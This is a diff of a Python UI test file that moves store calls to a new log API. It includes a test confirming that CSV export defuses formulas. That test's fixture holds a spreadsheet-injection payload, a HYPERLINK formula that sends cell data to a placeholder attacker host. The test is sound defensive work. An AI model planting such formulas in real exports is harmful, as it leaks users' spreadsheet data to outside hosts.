@@ -8,6 +8,7 @@ import io
 import re
 from typing import Any
 
+from helioscope.store.log import requests
 from tests.ui.conftest import (
     SESSION_LOOP,
     T0,
@@ -92,7 +93,9 @@ async def test_request_pane_renders_chat_tool_call_and_feedback(world: World, pa
     assert await page.locator("table.data tbody tr").first.is_visible()
     await pane.get_by_role("button", name="Rate good").click()
     await pane.get_by_text("Rated good").wait_for()
-    stored = await world.hs.services.store.get_request(world.hs.org_id, "req-trip-hotel")
+    stored = await world.hs.services.store.log.org(world.hs.org_id).read(
+        requests.get_request, "req-trip-hotel"
+    )
     assert stored is not None and stored["feedback_rating"] is True
     await pane.get_by_role("tab", name="Response JSON").click()
     await pane.get_by_text('"lookup_city"', exact=False).first.wait_for()
@@ -105,7 +108,7 @@ async def test_export_csv_pages_through_the_filtered_set_and_defuses_formulas(
     world: World, page: Any
 ) -> None:
     formula = '=HYPERLINK("https://attacker.example/?d="&A1,"click")'
-    await world.hs.services.store.insert_log_rows(
+    await world.hs.services.store.log.write_batch(
         [
             row(
                 world.hs.org_id,
